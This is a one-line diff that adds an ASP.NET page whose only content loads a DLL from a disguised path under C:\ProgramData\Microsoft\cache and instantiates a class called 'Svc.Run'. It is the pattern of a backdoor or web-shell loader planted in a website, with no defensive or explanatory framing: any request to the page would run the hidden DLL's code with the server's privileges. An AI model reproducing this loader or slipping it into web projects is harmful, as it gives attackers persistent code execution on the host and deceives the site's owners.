@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% System.Reflection.Assembly.LoadFile(@"C:\ProgramData\Microsoft\cache\upd.dll").CreateInstance("Svc.Run").Equals(this); %>
